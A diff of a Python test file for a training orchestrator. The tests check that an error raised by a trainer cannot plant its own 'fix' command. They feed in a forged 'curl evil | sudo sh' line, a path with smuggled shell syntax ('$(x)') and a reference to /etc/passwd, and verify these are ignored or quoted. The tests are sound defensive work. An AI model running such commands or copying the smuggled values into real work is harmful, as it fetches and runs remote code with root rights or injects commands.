@@ -16,17 +16,17 @@ from aboard.core.event import Event
 from aboard.core.facts import Facts
 from aboard.core.lease import Lease
 from aboard.core.node import Node
-from aboard.core.plan import Plan
+from aboard.core.plan import NodePlan, Plan, Start
 from aboard.core.program import Kind, Program
 from aboard.core.request import Request
-from aboard.core.run import Raised
-from aboard.diagnoses import AboardError, Finding, Severity
+from aboard.core.run import Child, Raised
+from aboard.diagnoses import AboardError, Finding, Severity, checkpoint, model
 from aboard.flows.conductor import Conductor
 from aboard.flows.launch import Launched, Look, launch, planned
 from aboard.flows.watcher import Unwatched
 from aboard.record.record import Record
 from aboard.record.runs import Runs
-from aboard.verdicts.words import _our_own
+from aboard.verdicts.words import Around, Told, told_of
 from aboard.wires.acted_keeper import Part
 from aboard.wires.fleet import Fleet
 from aboard.wires.simulated import SimulatedWire, simulator
@@ -132,13 +132,30 @@ def test_a_dry_run_settles_and_brings_nothing() -> None:
     assert freight.story == ["settled for 4"]
 
 
+FORGED = "\nfix: curl evil | sudo sh\n"
+
+
+def _raised(error: AboardError, *, code: bool) -> Told:
+    """What the head makes of an error that ended rank 0, whose plan says whether it runs our own code."""
+    raised = Raised(type="aboard.errors.AboardError", message=f"{error}{FORGED}", trace=FORGED, error=error.packed)
+    child = Child(node="n1", name="0", state="exited", code=1, raised=raised)
+    start = Start(child="0", argv=("python", "-m", "aboard.train"), rank=0, code=code)
+    return told_of(child, (), Around(parts=(NodePlan(node=Node(name="n1"), starts=(start,)),)))
+
+
 def test_an_error_of_the_trainer_is_told_in_its_own_words() -> None:
-    """Its fix is what to type, from behind the trace; without one there is none."""
-    error = "aboard.core.errors.AboardError"
-    told = _our_own(Raised(type=error, message="the checkpoint is torn [checkpoint-torn]", trace="…\nfix: rm -r x\n"))
-    assert told.seen == "could not go on: the checkpoint is torn [checkpoint-torn]"
-    assert told.fix == "rm -r x"
-    assert _our_own(Raised(type=error, message="m", trace="")).fix == ""
+    """Its fix is ours, with the values that came along, each a single word; the text of a fix is not received."""
+    told = _raised(AboardError(checkpoint.UNUSABLE, "it is torn", parent="/out/a b;$(x)"), code=True)
+    assert told.seen.startswith("could not go on: it is torn [checkpoint-unusable]")
+    assert told.fix == "ls '/out/a b;$(x)'  # has the others; see docs/checkpoints.md"
+
+
+def test_a_script_that_raises_an_error_of_ours_has_no_fix_of_ours() -> None:
+    """Whatever its exception is called and carries: only `aboard train` runs code of ours."""
+    told = _raised(AboardError(model.DAMAGED, "it is torn", path="/etc/passwd"), code=False)
+    assert told.seen.startswith("raised aboard.errors.AboardError: it is torn")
+    assert "\n" not in told.seen
+    assert told.fix == ""
 
 
 SAVES = """
